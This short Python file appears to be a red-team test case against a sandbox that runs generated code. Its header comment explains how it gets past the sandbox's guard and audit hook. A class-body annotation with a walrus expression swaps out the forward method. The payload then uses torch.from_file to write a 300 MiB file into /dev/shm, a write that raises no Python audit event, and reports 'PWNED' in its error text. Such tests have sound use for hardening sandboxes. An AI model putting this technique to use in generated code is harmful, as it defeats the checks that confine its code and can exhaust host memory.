# GUARD BYPASS + AUDIT-HOOK BYPASS: forward swapped by a class-body annotation (as g05); torch.from_file opens and
# maps files in C++ -- no Python "open" audit event -- so the hook's "no writing outside the scratch directory"
# does not see it. Creates a 300 MiB file in the jail's /dev tmpfs (not the 256 MiB scratch tmpfs, no size
# cap of its own: half the host's RAM) and reports what it did in its error text.
import torch

from runtime.generated import Generated
from runtime.residual import affine_sum


class Replacement(Generated):
    def forward(self, hidden_states, residual):
        return affine_sum(hidden_states, residual, self.hidden_states_scale, self.hidden_states_bias,
                          self.residual_scale, self.residual_bias)

    SWAP: (forward := (lambda self, hidden_states, residual: int(
        "PWNED " + str([torch.from_file("/dev/shm/fill", True, 300 << 20, dtype=torch.uint8).fill_(1).sum().item(),
                        torch.sys.modules["os"].statvfs("/dev/shm").f_blocks * 4096 >> 20,
                        torch.sys.modules["os"].stat("/dev/shm/fill").st_size >> 20])))) = 0
